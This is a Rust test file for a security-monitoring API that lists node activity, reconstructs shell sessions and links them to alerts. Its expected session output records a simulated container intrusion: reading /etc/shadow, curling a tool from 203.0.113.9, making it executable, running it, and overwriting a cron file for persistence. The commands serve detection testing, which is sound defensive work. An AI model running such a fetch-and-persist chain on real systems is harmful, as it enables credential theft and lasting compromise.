//! What happened on a node, as the API tells it.

mod harness;

use control::evidence::Line;
use harness::{Server, still};
use serde_json::Value;
use server::SourceSetting;
use store::{Draft, Journal, Opening};

const LINES: &str = include_str!("activity/session.jsonl");

/// A server whose trail holds what two sessions did.
fn server() -> Server {
    let dir = tempfile::tempdir().unwrap();
    let now = harness::NOW.parse().unwrap();
    let opening = Opening { origin: "test", version: "0", now };
    let (mut journal, _) = Journal::open(dir.path(), &opening).unwrap();
    for line in LINES.lines() {
        let line: Line = serde_json::from_str(line).unwrap();
        journal.commit(vec![Draft::new(line.entry)]).unwrap();
    }
    journal.close().unwrap();
    Server::start_in(dir, vec![SourceSetting::K8sAuditWebhook], still())
}

fn ask(server: &Server, path: &str) -> harness::Reply {
    server.person("GET", path, "")
}

fn get(server: &Server, path: &str) -> Value {
    let reply = ask(server, path);
    assert_eq!(reply.status, 200, "{path}: {}", reply.text());
    reply.json()
}

fn texts(list: &Value) -> Vec<&str> {
    let items = list["items"].as_array().unwrap();
    items.iter().map(|item| item["text"].as_str().unwrap()).collect()
}

#[test]
fn activity_is_listed_newest_first_and_filtered() {
    let server = server();
    let all = get(&server, "/v1/activity");
    assert_eq!(texts(&all).len(), 16);
    assert_eq!(texts(&all)[0], "finit_module: /lib/modules/6.1/extra.ko");
    let found = get(&server, "/v1/activity?text=etc%2Fcron&container=4e0f9a1b2c3d");
    assert_eq!(texts(&found), ["overwritten /etc/cron.d/tool"]);
    let item = &found["items"][0];
    assert_eq!((&item["kind"], &item["sort"]), (&"write".into(), &"schedule".into()));
    assert_eq!((&item["failed"], &item["subject"]["pod"]), (&"1".into(), &"web-7f9c".into()));
    // Each item leads to its entry of the trail.
    let position = item["position"].as_str().unwrap();
    assert_eq!(get(&server, &format!("/v1/trail/{position}"))["kind"], "activity");
    let by = get(&server, "/v1/activity?user=ada&kind=command");
    assert_eq!(texts(&by), ["mysql -h 10.0.0.9 -u root -p*** shop", "systemctl status kubelet"]);
    let first = get(&server, "/v1/activity?limit=10");
    let rest = format!("/v1/activity?limit=10&cursor={}", first["next"].as_str().unwrap());
    let rest = get(&server, &rest);
    assert_eq!([texts(&first), texts(&rest)].concat(), texts(&all));
    let gone = "/v1/activity?until=2026-11-22T12:01:00Z&pod=web-7f9c";
    assert!(texts(&get(&server, gone)).is_empty());
}

#[test]
fn a_session_shows_every_command_in_order_and_what_alerted() {
    let server = server();
    let sessions = get(&server, "/v1/activity/sessions");
    let terminals: Vec<&Value> =
        sessions["items"].as_array().unwrap().iter().map(|one| &one["via"][0]).collect();
    assert_eq!(terminals, ["runc", "sshd"]);
    let of_pod = get(&server, "/v1/activity/sessions?pod=web-7f9c");
    let one = &of_pod["items"][0];
    assert_eq!((&one["commands"], &one["exit"]), (&"6".into(), &"code 0".into()));
    let path = format!("/v1/activity/sessions/{}", one["id"].as_str().unwrap());
    let shown = get(&server, &path);
    assert_eq!(
        texts(&shown["activity"]),
        [
            "bash began at pts/0 through runc",
            "bash",
            "id",
            "cat /etc/shadow",
            "curl -s -H 'Authorization: ***' https://203.0.113.9/tool",
            "curl to 203.0.113.9:443, tcp",
            "chmod +x /tmp/tool",
            "/tmp/tool --install",
            "overwritten /etc/cron.d/tool",
            "bash ended at pts/0",
        ]
    );
    let alert = &shown["alerts"][0];
    assert_eq!(alert["alert"]["rule"], "Read sensitive file in a container");
    // And back again.
    let alert = get(&server, &format!("/v1/alerts/{}", alert["position"].as_str().unwrap()));
    assert_eq!(alert["session"], one["id"]);
}

#[test]
fn activity_is_listed_with_the_times_in_which_some_may_be_missing() {
    let server = server();
    let missing = |path: &str| get(&server, path)["interruptions"].as_array().unwrap().clone();
    let all = missing("/v1/activity");
    let [one] = all.as_slice() else { panic!("one: {all:?}") };
    assert_eq!((&one["node"], &one["since"]), (&"node-a".into(), &"2026-11-22T12:03:20Z".into()));
    assert_eq!(one["activity_missing_since"], "2026-11-22T12:03:18.5Z");
    assert_eq!(one["connections_missing_since"], "2026-11-22T12:02:10Z");
    assert_eq!(one["until"], "2026-11-22T12:04:02Z");
    let position = one["position"].as_str().unwrap();
    assert_eq!(get(&server, &format!("/v1/trail/{position}"))["kind"], "status");
    // A pod's activity is missing when its node's is.
    assert_eq!(missing("/v1/activity?pod=web-7f9c&kind=connection"), all);
    assert_eq!(missing("/v1/activity?until=2026-11-22T12:02:10.1Z"), all);
    assert!(missing("/v1/activity?until=2026-11-22T12:02:10Z").is_empty());
    assert!(missing("/v1/activity?from=2026-11-22T12:04:03Z").is_empty());
    assert!(missing("/v1/activity?node=node-b").is_empty());
    // So it is of a session: this one ended at 12:02:24.
    let of_pod = get(&server, "/v1/activity/sessions?pod=web-7f9c");
    let id = of_pod["items"][0]["id"].as_str().unwrap();
    assert_eq!(missing(&format!("/v1/activity/sessions/{id}")), all);
}

#[test]
fn what_is_not_there_and_what_makes_no_sense_is_told() {
    let server = server();
    let status = |path: &str| ask(&server, path).status;
    assert_eq!(status("/v1/activity/sessions/boot.1.2"), 404);
    assert_eq!(status("/v1/activity/sessions/nothing"), 400);
    assert_eq!(status("/v1/activity?session=nothing"), 400);
    assert_eq!(status("/v1/activity?kind=nothing"), 400);
    assert_eq!(status("/v1/activity?cursor=nothing"), 400);
    assert_eq!(status("/v1/activity?limit=0"), 400);
}
